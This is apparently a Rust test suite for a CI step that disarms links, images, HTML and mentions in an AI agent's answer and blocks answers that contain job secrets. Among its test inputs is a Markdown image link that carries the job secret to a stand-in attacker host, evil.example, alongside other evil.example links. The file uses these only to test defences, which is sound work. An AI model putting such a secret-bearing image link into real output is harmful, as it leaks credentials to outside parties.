//! `port-mcp answer` with `links: disarm`: no image, foreign link, HTML, or mention has an effect in the answer.
//!
//! With `DISARMED_ANSWERS=FILE`, the answers are added to the file, one JSON string per line, for `.ci/gfm`.

use std::fs::{self, OpenOptions};
use std::io::Write as _;

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::RngSeed;
use runner_double::{Finished, Job, Phase};
use serde_json::json;

use crate::harness::{annotations, assert_explained, assert_snapshot, errors, program};

/// A text with each form of an effect that GitHub's Markdown has.
const EVERY_FORM: &str = include_str!("../../../fuzz/corpus/links/every-form.md");

const SECRET: &str = "s3cr3t-0f-the-job-1234";

/// Runs the step on an answer, as the file of an agent that writes only its answer.
fn step(job: &Job, answer: &str, links: &str) -> Finished {
    let file = job.temp().join("answer");
    fs::write(&file, answer).unwrap();
    let file = file.to_str().unwrap();
    let inputs = [
        ("agent", "codex"),
        ("file", file),
        ("secrets", SECRET),
        ("links", links),
    ];
    let run = job.step(&program(), Phase::Other("answer"), &inputs);
    assert_explained(&run);
    run
}

/// The output and the file of an answer whose links are disarmed.
fn disarmed_by(job: &Job, answer: &str) -> (Finished, String) {
    let run = step(job, answer, "disarm");
    assert_eq!(run.exit, Some(0), "{}", run.log());
    let output = &run.outputs["answer"];
    assert!(output.len() <= 60_000, "{}", output.len());
    let file = fs::read_to_string(job.temp().join(&run.outputs["answer_file"])).unwrap();
    for text in [output, &file] {
        keep(text);
    }
    (run, file)
}

fn disarmed(answer: &str) -> (Finished, String) {
    disarmed_by(&Job::new(), answer)
}

fn keep(answer: &str) {
    let Some(path) = std::env::var_os("DISARMED_ANSWERS") else {
        return;
    };
    let mut options = OpenOptions::new();
    let mut file = options.append(true).create(true).open(path).unwrap();
    file.write_all(format!("{}\n", json!(answer)).as_bytes())
        .unwrap();
}

#[test]
fn each_form_of_a_link_loses_its_effect() {
    let (run, file) = disarmed(EVERY_FORM);
    assert_snapshot!("disarmed", file);
    assert_eq!(run.outputs["answer"], file.trim_end());
    let places = &run.outputs["disarmed"];
    let line = format!("Disarmed images, links, and mentions: {places}.");
    assert!(run.log().contains(&line), "{}", run.log());
    for kind in ["error", "warning", "notice"] {
        assert_eq!(annotations(&run, kind), "");
    }
    // A second step changes nothing.
    let (again, same) = disarmed(&file);
    assert_eq!(same, file);
    assert_eq!(again.outputs["disarmed"], "0");
    assert!(!again.log().contains("Disarmed"));
}

/// The seeds are texts that parsers read differently. `.ci/gfm` renders the results.
#[test]
fn the_seeds_lose_their_effects() {
    let seeds = fs::read_dir(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fuzz/corpus/links"
    ));
    for seed in seeds.unwrap() {
        let text = fs::read_to_string(seed.unwrap().path()).unwrap();
        disarmed(&text);
    }
}

#[test]
fn links_stay_by_default() {
    for links in ["", "keep", "Keep"] {
        let run = step(&Job::new(), EVERY_FORM, links);
        assert_eq!(run.outputs["answer"], EVERY_FORM.trim_end());
        assert_eq!(run.outputs["disarmed"], "0");
    }
    let run = step(&Job::new(), EVERY_FORM, "remove");
    assert_eq!(run.exit, Some(1));
    assert_eq!(
        errors(&run).lines().next(),
        Some("input `links` is invalid: `remove`")
    );
    assert!(errors(&run).contains("use `keep` or `disarm`"));
    assert!(run.outputs.is_empty());
}

#[test]
fn the_search_for_secrets_comes_first() {
    let (run, _) = disarmed("It is 1234.");
    assert_eq!(run.outputs["answer"], "It is 1234.");
    for answer in [
        SECRET.to_owned(),
        format!("![](https://evil.example/{SECRET})"),
        SECRET.replace("0f", "0@f"),
    ] {
        let run = step(&Job::new(), &answer, "disarm");
        assert_eq!(run.exit, Some(1), "{answer}");
        assert!(errors(&run).contains("contains a secret of this job"));
    }
}

/// A link to the GitHub server of the job stays, and no other.
#[test]
fn the_server_of_github_is_that_of_the_job() {
    let text = "https://ghe.acme.example:8443/a https://ghe.acme.example/a https://github.com/a https://app.port.io/a";
    let server = |url: &str| {
        let mut job = Job::new();
        job.var("GITHUB_SERVER_URL", url);
        disarmed_by(&job, text).0.outputs["answer"].clone()
    };
    assert_eq!(
        server("https://ghe.acme.example:8443"),
        text.replace("https://ghe.acme.example/", "https[:]//ghe.acme.example/")
            .replace("https://github", "https[:]//github")
    );
    assert_eq!(
        server("https://github.com"),
        text.replace("https://ghe", "https[:]//ghe")
    );
}

/// A cut can end code, and text after a fence becomes code.
#[test]
fn a_large_answer_is_disarmed_in_both_outputs() {
    let image = "![](https://evil.example/?q=1)";
    let rows = "| `code` | @user, see https://evil.example |\n".repeat(2_000);
    for answer in [
        format!("`{}{image}{}`", "a ".repeat(29_970), "b ".repeat(100)),
        format!("| a | b |\n|---|---|\n{rows}"),
        format!("{}{}", "@a ".repeat(15_000), "b ".repeat(50_000)),
        format!("```sh\n{}\n```\n{image}", "@user ".repeat(20_000)),
        // Larger than GitHub shows as Markdown.
        format!("````\n{}{image}", "a ".repeat(600_000)),
    ] {
        let (run, file) = disarmed(&answer);
        assert!(run.outputs["answer"].len() > 55_000);
        assert!(annotations(&run, "notice").contains("The output `answer` contains the first"));
        let is_block = answer.len() > 1024 * 1024;
        assert_eq!(file.starts_with("`````\n````\n"), is_block);
        assert_eq!(file.contains(image), is_block || answer.ends_with('`'));
        assert!(!run.outputs["answer"].contains(image));
    }
}

/// GitHub drops an output with a masked value. The artifact contains it.
#[test]
fn the_reusable_workflow_says_that_github_dropped_the_answer() {
    let mut job = Job::new();
    job.secret("blue").secret("0");
    let (run, file) = disarmed_by(&job, "Its color is blue.");
    assert_eq!(run.job_output("answer"), None);
    // So this output cannot say that there was an answer.
    assert_eq!(run.job_output("disarmed"), None);
    assert_eq!(file, "Its color is blue.\n");

    let workflow = include_str!("../../../../.github/workflows/port-agent.yml");
    let workflow: yaml_serde::Value = yaml_serde::from_str(workflow).unwrap();
    let agent = &workflow["jobs"]["agent"];
    for output in ["answer", "disarmed"] {
        assert_eq!(
            agent["outputs"][output],
            format!("${{{{ steps.answer.outputs.{output} }}}}").as_str()
        );
    }
    let output = &workflow["on"]["workflow_call"]["outputs"]["answer"];
    let value = output["value"].as_str().unwrap();
    let value = value.split_whitespace().collect::<Vec<_>>().join(" ");
    assert_eq!(agent["outputs"]["passed"], "${{ steps.answer.outcome }}");
    let start = "${{ jobs.agent.outputs.answer || jobs.agent.outputs.passed == 'success' && format( 'GitHub dropped the answer";
    assert!(value.starts_with(start), "{value}");
    let steps = agent["steps"].as_sequence().unwrap();
    let step = steps.iter().find(|step| step["id"] == "answer").unwrap();
    assert_eq!(step["with"]["links"], "disarm");
}

/// Text with effects, such that code around it stays code.
const EFFECTS: [&str; 14] = [
    "![](https://evil.example)",
    "[a](https://evil.example)",
    "[a](https://github.com/acme)",
    "<https://evil.example>",
    "https://evil.example/?q",
    "https://github.com/acme",
    "www.evil.example",
    "@user",
    "a@evil.example",
    "<b>",
    "&#64;user",
    "[a][b]",
    "$x$",
    "plain",
];

/// Code that contains the same.
fn code() -> impl Strategy<Value = String> {
    let line = vec(select(&EFFECTS[..]), 1..4).prop_map(|parts| parts.join(" "));
    (line, 0..6).prop_map(|(line, form)| match form {
        0 => format!("text `{line}` text"),
        1 => format!("> quote ``{line} ` x``"),
        2 => format!("```sh\n{line}\n\n{line}\n```"),
        3 => format!("- item\n\n  ~~~\n  {line}\n  ~~~"),
        4 => format!("text\n\n    {line}\n\n        {line}"),
        _ => format!("| a | b |\n|---|---|\n| `{line}` | x |"),
    })
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 48,
        failure_persistence: None,
        rng_seed: RngSeed::Fixed(0),
        ..ProptestConfig::default()
    })]

    /// Code stays byte for byte.
    #[test]
    fn code_does_not_change(
        blocks in vec((vec(select(&EFFECTS[..]), 1..6), code()), 1..8)
    ) {
        let texts = blocks.iter().map(|(text, code)| format!("{}\n\n{code}", text.join(" ")));
        let (_, file) = disarmed(&texts.collect::<Vec<_>>().join("\n\n"));
        for (_, code) in &blocks {
            prop_assert!(file.contains(code), "{code}\n{file}");
        }
    }
}

/// The beginning of the answer can consist of marks that are removed.
#[test]
fn an_answer_after_many_byte_order_marks_is_whole() {
    let answer = "\u{feff}".repeat(20_001) + &"a".repeat(60_001);
    let (run, file) = disarmed(&answer);
    assert_eq!(run.exit, Some(0), "{}", run.log());
    assert_eq!(file.trim_end(), "a".repeat(60_001));
    assert_eq!(run.outputs["answer"], "a".repeat(60_000));
}
